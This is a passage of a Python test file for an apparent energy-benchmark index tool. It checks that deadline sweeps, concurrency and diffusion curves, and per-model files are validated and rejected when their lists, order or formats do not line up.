        ("lm-arena-chat", _emptied_last, "no configuration meets it, though one met a smaller"),
        ("lm-arena-chat", _tail_added, "the rows have p95_itl_ms, not the sweep's statistic's"),
        ("lm-arena-chat", _reversed, "$.deadlines_ms: '[500, 100, 5]' does not ascend"),
        ("text-to-image", _reversed, "$.deadlines_s: '[30, 10, 1]' does not ascend"),
        ("lm-arena-chat", _swapped, "median_itl_ms 112.6 exceeds the deadline"),
        ("lm-arena-chat", _swapped, "is more than at a smaller deadline"),
        ("text-to-image", _swapped, "exceeds the deadline"),
        ("lm-arena-chat", _other_group, "not the group's"),
        ("text-to-image", _other_group, "not the group's"),
        ("lm-arena-chat", _shifted, "is not its parts'"),
        ("lm-arena-chat", _unbound, "no configuration meets it, yet binding is false"),
        ("lm-arena-chat", lambda d: d["groups"].append(d["groups"][0]),
         "$.groups: not one per (model_id, gpu), in that order"),
        ("lm-arena-chat", lambda d: d["groups"].reverse(),
         "$.groups: not one per (model_id, gpu), in that order"),
    ],
)  # fmt: skip
def test_validate_finds_a_sweep_row_at_another_deadline_or_group_than_its_own(
    sweeps, tmp_path, task, change, said
):
    """A review found rows moved between deadlines validated: the lists lined up. A row's
    latency is within its deadline, its energy never rises with the deadline, it is its
    group's, its row_id is its parts', an empty deadline binds, and groups come once, in order."""
    problems = _broken(sweeps[task], tmp_path, change)
    assert any(said in problem for problem in problems), problems


@pytest.mark.parametrize(
    ("task", "option", "deadlines", "schema", "holding"),
    [
        ("lm-arena-chat", "--itl-deadline-ms", "100,500", "deadlines", "deadlines_ms"),
        ("text-to-image", "--deadline-s", "10,30", "diffusion-deadlines", "deadlines_s"),
    ],
)
def test_the_build_refuses_a_sweep_whose_lists_do_not_line_up_and_writes_nothing(
    tmp_path, monkeypatch, task, option, deadlines, schema, holding
):
    """The build holds its own deadlines.json to validate's rules before writing, and says so in
    validate's words: a writer that lost a value would publish later picks at the wrong
    deadline."""
    import energy_index.documents.fields as fields

    written = fields.cells_by_field

    def short(cells, **options):
        by_field = written(cells, **options)
        by_field["row"]["row_id"].pop()
        return by_field

    monkeypatch.setattr(fields, "cells_by_field", short)
    out = tmp_path / "index.json"
    result = CliRunner().invoke(main, ["build", "--from", str(GOLDEN), "--task", task, option,
                                       deadlines, "--out", str(out)])  # fmt: skip
    assert result.exit_code == 1, result.output
    assert (
        f"the document does not match schemas/{schema}.schema.json and the deadline sweep's "
        "rules:" in result.output
    )
    assert "$.groups[0].by_deadline.row.row_id (" in result.output
    assert f"1 values where {holding} has 2" in result.output
    assert list(tmp_path.iterdir()) == []


def test_a_sweep_row_of_other_fields_than_the_index_s_is_the_package_s_error(monkeypatch):
    """A review found a step's row of other fields than the index's reaching cells_by_field's
    ValueError: the build ended in a traceback. It is a DerivationError naming the group."""
    from energy_index.documents.index import sweep_groups
    from energy_index.errors import DerivationError

    cells = [{"itl_deadline_ms": 5, "status": "selected", "binding": True, "row": {"a": 1}}]
    group = {"model": "M", "model_id": "o/m", "gpu": "H100", "by_deadline": cells}
    with pytest.raises(DerivationError, match=r"^the deadline sweep of o/m on H100: "):
        sweep_groups([group], fields=["a", "b"])


@pytest.mark.parametrize("kind", ["deadline sweep", "diffusion deadline sweep"])
def test_validate_says_a_sweep_of_format_1_is_no_longer_written(tmp_path, kind):
    path = tmp_path / "old.json"
    path.write_text(json.dumps({"kind": kind, "version": "1", "groups": []}))
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code != 0
    assert "format 1, an object per deadline and group, no longer written since format 2" in (
        result.output
    )
    assert result.output.count("$.") == 1, result.output


# -- Issue 36: curves.json format 2, each curve's points by field ------------------------------


def test_a_curve_s_points_are_written_by_field_as_the_step_made_them(all_tasks: Path):
    from energy_index.steps.curves import concurrency_curves

    document = json.loads((all_tasks / "lm-arena-chat" / "curves.json").read_bytes())
    assert document["version"] == "2"
    stable = index_stages(GOLDEN, settings=BuildSettings()).stability.stable
    made = concurrency_curves(stable)
    assert [{**c, "points": curve_points(c)} for c in document["curves"]] == made
    assert all(
        list(c["points"]) == ["max_num_seqs", "energy_per_token_joules", "median_itl_ms",
                              "avg_power_watts", "pareto"]
        for c in document["curves"]
    )  # fmt: skip


@pytest.mark.parametrize("name", ["curves.json", "model"])
def test_validate_holds_curves_to_one_length_of_their_point_lists(all_tasks, tmp_path, name):
    """What the schema cannot say: a curve's point lists are as long as each other, in
    curves.json and in a site model file (which holds curves)."""
    from energy_index.flows.site import _add_models

    document = json.loads((all_tasks / "lm-arena-chat" / "curves.json").read_bytes())
    at = "$.curves[0]"
    if name == "model":
        models: dict = {}
        curves = [{**c, "points": curve_points(c)} for c in document["curves"]]
        _add_models(models, "lm-arena-chat", [], curves)
        document = next(iter(models.values()))
        at = "$.tasks[0].curves[0]"
    path = tmp_path / "file.json"
    path.write_text(json.dumps(document))
    ok = CliRunner().invoke(main, ["validate", str(path)])
    assert ok.exit_code == 0 and ok.output.endswith(" and the curves' rules\n"), ok.output
    curve = document["curves"][0] if name != "model" else document["tasks"][0]["curves"][0]
    length = len(curve["points"]["pareto"])
    curve["points"]["pareto"].pop()
    path.write_text(json.dumps(document))
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1
    assert result.output.splitlines()[1:] == [
        f"{path}: {at}.points.pareto ({curve['model_id']} on {curve['num_gpus']} × "
        f"{curve['gpu']}): {length - 1} values where max_num_seqs has {length}"
    ]


def test_the_build_refuses_curves_whose_lists_do_not_line_up_and_writes_nothing(
    tmp_path, monkeypatch
):
    import energy_index.documents.fields as fields

    written = fields.by_field

    def short(items):
        by_field = written(items)
        if "pareto" in by_field:  # a curve's points
            by_field["pareto"].pop()
        return by_field

    monkeypatch.setattr(fields, "by_field", short)
    out = tmp_path / "index.json"
    result = CliRunner().invoke(main, ["build", "--from", str(GOLDEN), "--curves", "--out",
                                       str(out)])  # fmt: skip
    assert result.exit_code == 1, result.output
    assert "$.curves[0].points.pareto (" in result.output
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("kind", "said"),
    [("concurrency curves", "curves.json format 1"), ("diffusion curves", "curves.json format 1"),
     ("model", "model file format 1")],
)  # fmt: skip
def test_validate_says_curves_of_format_1_are_no_longer_written(tmp_path, kind, said):
    path = tmp_path / "old.json"
    path.write_text(json.dumps({"kind": kind, "version": "1", "curves": []}))
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1
    assert said in result.output and "no longer written since format 2" in result.output
    assert result.output.count("$.") == 1, result.output


def test_a_curve_s_one_short_list_is_the_one_blamed_and_a_diffusion_curve_names_its_layout(
    tmp_path,
):
    """A new user's findings: a value cut from max_num_seqs, the first list, blamed the four
    others; three diffusion curves of one model and GPU count were told apart only by index."""
    out = tmp_path / "t2i" / "index.json"
    result = CliRunner().invoke(main, ["build", "--from", str(GOLDEN), "--task", "text-to-image",
                                       "--curves", "--out", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    document = json.loads(out.with_name("curves.json").read_bytes())
    (number, curve) = next(
        (n, c) for n, c in enumerate(document["curves"]) if len(c["points"]["row_id"]) > 1
    )
    length = len(curve["points"]["row_id"])
    curve["points"]["row_id"].pop()
    path = tmp_path / "curves.json"
    path.write_text(json.dumps(document))
    said = CliRunner().invoke(main, ["validate", str(path)]).output.splitlines()[1:]
    assert said == [
        f"{path}: $.curves[{number}].points.row_id ({curve['model_id']} on {curve['num_gpus']} × "
        f"{curve['gpu']}, Ulysses {curve['ulysses_degree']} × ring {curve['ring_degree']}): "
        f"{length - 1} values where batch_size has {length}"
    ]


def _curves_of(tmp_path: Path, task: str) -> Path:
    out = tmp_path / task / "index.json"
    result = CliRunner().invoke(main, ["build", "--from", str(GOLDEN), "--task", task,
                                       "--curves", "--out", str(out)])  # fmt: skip
    assert result.exit_code == 0, result.output
    return out.with_name("curves.json")


def _reversed_points(document: dict) -> None:
    curve = next(
        c
        for c in document["curves"]
        if len(set(c["points"]["pareto"])) == 1 and len(c["points"]["pareto"]) > 1
    )
    for values in curve["points"].values():
        values.reverse()


def _model_file(tmp_path: Path, change) -> Path:
    from energy_index.flows.site import _add_models

    document = json.loads(_curves_of(tmp_path, "lm-arena-chat").read_bytes())
    curves = [{**c, "points": curve_points(c)} for c in document["curves"]]
    rows = json.loads(_curves_of(tmp_path, "lm-arena-chat").with_name("index.json").read_bytes())[
        "rows"
    ]
    models: dict = {}
    _add_models(models, "lm-arena-chat", rows, curves)
    _add_models(models, "gpqa", [], [])
    model, other = models["qwen-3-14b"], models["qwen-3-8b"]
    change(model, other)
    path = tmp_path / "model.json"
    path.write_text(json.dumps(model))
    return path


@pytest.mark.parametrize(
    ("task", "change", "said"),
    [
        ("lm-arena-chat", lambda d: d["curves"][0]["points"]["pareto"].__setitem__(
            0, not d["curves"][0]["points"]["pareto"][0]), "points.pareto ("),
        ("text-to-image", lambda d: d["curves"][0]["points"]["pareto"].__setitem__(
            0, not d["curves"][0]["points"]["pareto"][0]), "points.pareto ("),
        ("lm-arena-chat", _reversed_points, "points.max_num_seqs ("),
        ("lm-arena-chat", lambda d: d["curves"].reverse(), "$.curves: not one per family"),
        ("text-to-image", lambda d: d["curves"].append(d["curves"][0]), "$.curves: not one per"),
        ("text-to-image", lambda d: d["curves"][0]["points"]["row_id"].reverse(),
         "is not of this curve's layout and batch size"),
    ],
)  # fmt: skip
def test_validate_holds_curves_to_their_points(tmp_path, task, change, said):
    """A review found curves with wrong pareto flags, points or curves out of order, or a
    diffusion point of another layout validated: each can be told from the file."""
    path = _curves_of(tmp_path, task)
    document = json.loads(path.read_bytes())
    change(document)
    path.write_text(json.dumps(document))
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1, result.output
    assert said in result.output, result.output


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda m, o: m["tasks"][0].__setitem__("rows", o["tasks"][0]["rows"]),
         "'s, not the file's model (Qwen/Qwen3-14B)"),
        (lambda m, o: m["tasks"][0].__setitem__("curves", o["tasks"][0]["curves"]),
         "'s, not the file's model (Qwen/Qwen3-14B)"),
        (lambda m, o: m["tasks"].append(m["tasks"][0]), "$.tasks: a task more than once"),
    ],
)  # fmt: skip
def test_validate_holds_a_model_file_to_its_model(tmp_path, change, said):
    path = _model_file(tmp_path, change)
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 1, result.output
    assert said in result.output, result.output


def test_a_model_file_holds_rows_under_another_of_its_model_s_names(tmp_path):
    """Upstream may name one model_id's configurations differently: a row picked under another
    nickname (and so slug) than the file's is still the model's, not refused (the site would
    fail on such an upstream); only another model_id is."""

    def rename(model, other):
        row = model["tasks"][0]["rows"][0]
        row.update(model="Qwen 3 14B big", slug="qwen-3-14b-big")

    path = _model_file(tmp_path, rename)
    result = CliRunner().invoke(main, ["validate", str(path)])
    assert result.exit_code == 0, result.output
